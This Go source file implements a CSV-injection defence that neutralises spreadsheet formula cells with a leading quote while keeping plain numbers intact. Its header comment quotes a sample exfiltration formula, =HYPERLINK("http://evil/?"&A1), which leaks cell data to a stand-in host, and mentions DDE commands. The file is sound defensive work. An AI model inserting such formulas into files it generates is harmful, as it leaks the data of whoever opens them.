// Package csvsafe writes CSV that is safe to open in a spreadsheet. Excel, LibreOffice and WPS
// read a cell that starts with '=', '+', '-' or '@' (and, in some versions, after a tab or a
// carriage return) as a formula, so a loan tape or a rejected row can carry
// =HYPERLINK("http://evil/?"&A1) or a DDE command to whoever opens the file ("CSV injection").
// Every CSV file Reclaim writes goes through this package: such a cell is written with a single
// quote in front (the OWASP rule), which spreadsheets show as text and do not evaluate.
//
// One exception keeps numbers numbers: a cell that is a plain decimal number, optionally signed
// ("-1234.56", "+5", "-0.5", "-1e3" is not one), is written as it is; a number cannot be a
// formula. Full-width forms of the trigger characters (＝ ＋ － ＠), which Chinese input methods
// produce and some spreadsheet versions convert, are treated like their ASCII forms.
package csvsafe

import (
	"encoding/csv"
	"io"
	"strings"
)

// Cell returns s neutralised: s itself, or s with a leading single quote when a spreadsheet
// could take it for a formula.
func Cell(s string) string {
	if !Risky(s) {
		return s
	}
	return "'" + s
}

// Risky reports whether a spreadsheet could read s as a formula.
func Risky(s string) bool {
	if s == "" {
		return false
	}
	switch s[0] {
	case '=', '@', '\t', '\r':
		return true
	case '+', '-':
		return !isNumber(s)
	}
	for _, p := range []string{"＝", "＋", "－", "＠"} {
		if strings.HasPrefix(s, p) {
			return true
		}
	}
	return false
}

// isNumber reports whether s is a signed plain decimal number: [+-]digits[.digits].
func isNumber(s string) bool {
	s = s[1:] // the sign
	whole, frac, dot := strings.Cut(s, ".")
	if !digits(whole) {
		return false
	}
	return !dot || digits(frac)
}

func digits(s string) bool {
	if s == "" {
		return false
	}
	for i := 0; i < len(s); i++ {
		if s[i] < '0' || s[i] > '9' {
			return false
		}
	}
	return true
}

// Writer is a csv.Writer that neutralises every cell it writes.
type Writer struct {
	*csv.Writer
	buf []string
}

// NewWriter returns a Writer to w.
func NewWriter(w io.Writer) *Writer { return &Writer{Writer: csv.NewWriter(w)} }

// Write writes one record, each cell through Cell. rec is not modified.
func (w *Writer) Write(rec []string) error {
	w.buf = w.buf[:0]
	for _, c := range rec {
		w.buf = append(w.buf, Cell(c))
	}
	return w.Writer.Write(w.buf)
}

// WriteAll writes every record through Write and flushes.
func (w *Writer) WriteAll(recs [][]string) error {
	for _, r := range recs {
		if err := w.Write(r); err != nil {
			return err
		}
	}
	w.Flush()
	return w.Error()
}
